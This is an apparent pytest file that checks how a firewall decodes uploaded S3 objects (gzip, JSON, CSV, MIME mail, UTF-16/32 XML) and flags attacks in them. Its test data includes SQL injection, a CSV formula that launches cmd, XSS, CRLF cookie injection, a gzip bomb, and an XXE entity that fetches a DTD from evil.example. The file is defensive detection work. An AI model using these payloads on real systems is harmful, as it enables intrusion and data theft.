"""S3 object content decoding: what the engine gets to see of an uploaded file."""

from __future__ import annotations

import base64
import gzip

import pytest

from firewall import Firewall
from firewall.sources.base import Field
from firewall.sources.s3_object import DISGUISE_PATH, MAIL_PATH, PATH, decode_object

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FIREWALL = Firewall.load()


def _verdict(key: str, data: bytes, **kwargs: object) -> tuple[list[Field], set[str]]:
    content = decode_object(key, data, max_bytes=1_000_000, **kwargs)  # type: ignore[arg-type]
    return content.fields, set(FIREWALL.inspect_fields(content.fields).signature_ids)


def test_an_executable_named_like_an_image_is_flagged() -> None:
    fields, ids = _verdict("incoming/cat.jpg", b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)))
    assert Field(DISGUISE_PATH, "ELF executable disguised as .jpg") in fields
    assert "FW-UPLOAD-001" in ids


def test_a_real_image_or_an_honest_executable_is_not() -> None:
    assert "FW-UPLOAD-001" not in _verdict("cat.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF")[1]
    assert "FW-UPLOAD-001" not in _verdict("tool.bin", b"\x7fELF\x02\x01")[1]


def test_eicar_is_detected_in_binary_and_gzip_content() -> None:
    assert "FW-EICAR-001" in _verdict("files/test.com", EICAR + b"\x00\xff")[1]
    assert "FW-EICAR-001" in _verdict("files/test.txt.gz", gzip.compress(EICAR))[1]


def test_json_objects_are_flattened_like_message_bodies() -> None:
    fields, ids = _verdict("data/order.json", b'{"note": "1\' UNION SELECT password FROM users--"}')
    assert Field(f"{PATH}.note", "1' UNION SELECT password FROM users--") in fields
    assert any(i.startswith("FW-SQLI") for i in ids)


def test_csv_cells_are_fields_so_formulas_are_seen_at_cell_start() -> None:
    fields, ids = _verdict("exports/users.csv", b"name,comment\nbob,\"=cmd|' /C calc'!A0\"\n")
    assert Field(f"{PATH}.rows[1][1]", "=cmd|' /C calc'!A0") in fields
    assert any(i.startswith("FW-FORMULA") for i in ids)


def test_utf16_text_is_decoded() -> None:
    fields, _ = _verdict("notes.txt", "<script>alert(1)</script>".encode("utf-16"))
    assert Field(PATH, "<script>alert(1)</script>") in fields


def test_a_multibyte_character_cut_by_the_range_read_keeps_the_text() -> None:
    data = "grüß".encode()[:-1]  # the ranged read ended inside the two bytes of "ß"
    fields, _ = _verdict("a.txt", data)
    assert fields == [Field(PATH, "grü")]


def test_a_gzip_bomb_is_cut_at_the_limit_and_marked_oversize() -> None:
    bomb = gzip.compress(b"A" * 5_000_000)
    content = decode_object("logs/x.txt.gz", bomb, max_bytes=10_000)
    assert content.oversize
    assert len(content.fields[0].value) <= 10_000


def test_truncated_objects_are_marked_oversize() -> None:
    assert decode_object("a.txt", b"hello", max_bytes=5, truncated=True).oversize
    assert not decode_object("a.txt", b"hello", max_bytes=5).oversize


SES_MAIL = (
    b"Return-Path: <alice@example.com>\r\nReceived: from mx.example.com by inbound-smtp\r\n"
    b"From: Alice <alice@example.com>\r\nTo: Bob <bob@example.com>\r\nCc: Carol <carol@example.com>\r\n"
    b"Reply-To: alice@example.com\r\nSubject: Q2 numbers\r\nDate: Tue, 14 May 2024 09:21:37 +0000\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Length: 42\r\n\r\n"
    b"Hi Bob,\r\n\r\nthe numbers are attached.\r\nAlice\r\n"
)


def _mime(*parts: bytes) -> bytes:
    head = b"From: a@example.com\r\nTo: b@example.com\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
    body = b"".join(b"--B\r\n" + part + b"\r\n" for part in parts)
    return head + b"Content-Type: multipart/mixed; boundary=B\r\n\r\n" + body + b"--B--\r\n"


def test_an_inbound_mail_is_read_as_headers_and_parts_not_as_header_injection() -> None:
    """SES stores each mail under its message id, with no extension: taken whole, its header block
    looked like CRLF header injection (FW-CRLF-003, FW-CRLF-006) and every mail was quarantined."""
    fields, ids = _verdict("inbound/0e1f2a3b4c5d", SES_MAIL, content_type="application/octet-stream")
    assert ids == set()
    assert Field(f"{MAIL_PATH}.headers.Cc", "Carol <carol@example.com>") in fields
    assert Field(f"{MAIL_PATH}.parts[0]", "Hi Bob,\r\n\r\nthe numbers are attached.\r\nAlice\r\n") in fields
    assert all(f.path != PATH for f in fields)


def test_a_base64_attachment_is_decoded_and_its_name_kept() -> None:
    """MIME wraps base64 at 76 characters: no run of it held the whole EICAR string."""
    attachment = b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="t.com"\r\n'
    attachment += b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(EICAR).replace(b"\n", b"\r\n")
    fields, ids = _verdict("mail/m.eml", _mime(b"Content-Type: text/plain\r\n\r\nsee attached", attachment))
    assert "FW-EICAR-001" in ids
    assert Field(f"{MAIL_PATH}.parts[1].filename", "t.com") in fields


QUOTED = b"Content-Transfer-Encoding: quoted-printable\r\n\r\n=3Cscript=3Ealert(1)=3C/script=3E"
BASE64 = b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(b"1' UNION SELECT password FROM users--")


@pytest.mark.parametrize(
    ("part", "family"),
    [(b"Content-Type: text/html\r\n" + QUOTED, "xss"), (b"Content-Type: text/plain\r\n" + BASE64, "sqli")],
)
def test_an_attack_in_an_encoded_part_is_seen_decoded(part: bytes, family: str) -> None:
    assert any(i.startswith(f"FW-{family.upper()}") for i in _verdict("mail/m.eml", _mime(part))[1])


def test_an_attack_in_an_encoded_header_word_is_seen_decoded() -> None:
    subject = b"=?utf-8?b?" + base64.b64encode(b"<script>alert(1)</script>") + b"?="
    fields, ids = _verdict("mail/m.eml", SES_MAIL.replace(b"Q2 numbers", subject))
    assert Field(f"{MAIL_PATH}.headers.Subject", "<script>alert(1)</script>") in fields
    assert any(i.startswith("FW-XSS") for i in ids)


def test_a_message_with_a_broken_structure_is_also_inspected_whole() -> None:
    """A boundary that never closes is a defect: what the parser made of it cannot be trusted to
    hold everything, so the text is inspected whole as well."""
    broken = _mime(b"Content-Type: text/plain\r\n\r\nhi").replace(b"--B--\r\n", b"")
    broken = broken.replace(b"boundary=B", b"boundary=Z") + b"--B\r\n<script>alert(1)</script>\r\n"
    fields, ids = _verdict("mail/m.eml", broken)
    assert any(f.path == PATH for f in fields) and any(i.startswith("FW-XSS") for i in ids)


def test_text_with_a_few_header_like_lines_is_not_taken_for_mail() -> None:
    fields, _ = _verdict("notes.txt", b"Title: plans\nAuthor: me\n\nbody text")
    assert fields == [Field(PATH, "Title: plans\nAuthor: me\n\nbody text")]


XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><r/>'


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-32"])
def test_xml_in_utf16_or_utf32_without_a_mark_is_read_as_its_parser_reads_it(encoding: str) -> None:
    """An XML parser reads UTF-16 without a byte order mark by how `<?` is spelled (XML 1.0, F.1):
    the payload used to stay bytes and only a weak signature fired."""
    fields, ids = _verdict("upload/data.xml", XXE.encode(encoding))
    assert Field(PATH, XXE) in fields and any(i.startswith("FW-XXE") for i in ids)


FORWARDED = (
    b"Hi Bob, see below.\r\n\r\n---------- Forwarded message ---------\r\nFrom: Alice <alice@example.com>\r\n"
    b"Subject: Re: numbers\r\nTo: Bob <bob@example.com>\r\nCc: Carol <carol@example.com>\r\n"
    b"Content-Type: text/plain\r\n\r\nNumbers attached.\r\n"
)


@pytest.mark.parametrize(
    ("key", "data"),
    [
        ("inbound/0e1f2a3b", SES_MAIL.replace(b"Hi Bob,\r\n\r\nthe numbers are attached.\r\nAlice\r\n", FORWARDED)),
        ("dumps/request.http", b"GET / HTTP/1.1\r\nHost: a.example\r\nContent-Type: text/html\r\nSet-Cookie: a=b\r\n"),
    ],
    ids=["forwarded-mail", "http-dump"],
)
def test_header_lines_inside_a_document_are_not_header_injection(key: str, data: bytes) -> None:
    """A document is lines: the line-based CRLF signatures target fields, not whole documents."""
    assert _verdict(key, data)[1] == set()


def test_header_injection_in_a_field_of_a_json_object_is_still_caught() -> None:
    _fields, ids = _verdict("data/user.json", b'{"name": "x\\r\\nSet-Cookie: sid=evil"}')
    assert {"FW-CRLF-002", "FW-CRLF-003"} <= ids
